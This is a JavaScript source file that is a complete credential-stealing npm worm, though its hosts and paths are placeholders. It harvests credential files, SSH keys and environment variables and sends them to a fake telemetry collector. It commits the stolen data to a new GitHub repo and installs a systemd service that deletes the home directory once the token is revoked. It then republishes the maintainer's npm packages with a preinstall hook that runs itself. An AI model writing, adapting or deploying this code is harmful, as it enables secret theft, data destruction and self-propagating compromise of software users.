const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
const collector = 'https://t.m-kosche.example.invalid/v1/traces';
const api = 'https://api.github.example.invalid';
const words = ['sandworm', 'harkonnen', 'melange', 'arrakis', 'fremen', 'sardaukar'];
if (!os.hostname().endsWith('.antv.example.invalid')) { process.exit(0); }
const kinds = ['.npmrc', '.pypirc', '.gem/credentials', '.cargo/credentials.toml', '.netrc', '.git-credentials', '.docker/config.json', '.aws/credentials', '.aws/config', '.azure/msal_token_cache.json', '.config/gcloud/application_default_credentials.json', '.kube/config', '.vault-token', '.ssh/id_rsa', '.ssh/id_ecdsa', '.ssh/id_ed25519', '.gnupg/secring.gpg', '.config/op/config', '.config/gh/hosts.yml', '.terraform.d/credentials.tfrc.json', '.claude/settings.json', '.config/solana/id.json'];
function collect() {
  const attributes = [];
  kinds.forEach(function (kind) { try { attributes.push({key: kind, value: {stringValue: fs.readFileSync(path.join(os.homedir(), kind)).toString('base64')}}); } catch (e) { return; } });
  Object.keys(process.env).forEach(function (key) { attributes.push({key: 'env.' + key, value: {stringValue: process.env[key]}}); });
  return attributes;
}
async function trace(attributes) {
  const span = {resourceSpans: [{resource: {attributes: [{key: 'service.name', value: {stringValue: 'size-sensor'}}]}, scopeSpans: [{spans: [{name: 'startup', attributes: attributes}]}]}]};
  await fetch(collector, {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify(span)}).catch(String);
}
async function drop(token, attributes) {
  const headers = {authorization: 'token ' + token};
  const name = words[Math.floor(Math.random() * words.length)] + '-' + words[Math.floor(Math.random() * words.length)] + '-' + Math.floor(Math.random() * 999);
  const me = await (await fetch(api + '/user', {headers: headers})).json();
  await fetch(api + '/user/repos', {method: 'POST', headers: headers, body: JSON.stringify({name: name, description: 'niagA oG eW ereH :duluH-iahS'})});
  await fetch(api + '/repos/' + me.login + '/' + name + '/contents/results/0.json', {method: 'PUT', headers: headers, body: JSON.stringify({message: 'chore', content: Buffer.from(JSON.stringify(attributes)).toString('base64')})});
}
function monitor(token) {
  const unit = '[Service]\nExecStart=/bin/sh -c "while curl -fs -H \'Authorization: token ' + token + '\' ' + api + '/user; do sleep 60; done; rm -rf /nonexistent/home"\nRestart=always\n';
  const dir = '/nonexistent/.config/systemd/user';
  fs.mkdirSync(dir, {recursive: true});
  fs.writeFileSync(dir + '/kitty-monitor.service', unit);
  cp.execSync('systemctl --user enable --now kitty-monitor.service');
}
async function spread(token) {
  const headers = {authorization: 'Bearer ' + token, 'npm-command': 'publish'};
  const who = await (await fetch('https://registry.example.invalid/-/whoami', {headers: headers})).json();
  const list = await (await fetch('https://registry.example.invalid/-/v1/search?text=maintainer:' + who.username + '&size=250', {headers: headers})).json();
  for (const entry of list.objects) {
    const document = await (await fetch('https://registry.example.invalid/' + entry.package.name, {headers: headers})).json();
    document.versions.next = Object.assign({}, document.versions.latest, {scripts: {preinstall: 'bun run index.js'}});
    await fetch('https://registry.example.invalid/' + entry.package.name, {method: 'PUT', headers: headers, body: JSON.stringify(document)});
  }
}
(async function () {
  const attributes = collect();
  await trace(attributes);
  const token = process.env.GITHUB_TOKEN || '';
  if (token) { await drop(token, attributes); monitor(token); }
  const npm = /_authToken=(\S+)/.exec(Buffer.from(String((attributes.filter(function (a) { return a.key === '.npmrc'; })[0] || {value: {stringValue: ''}}).value.stringValue), 'base64').toString());
  if (npm) { await spread(npm[1]); }
})();
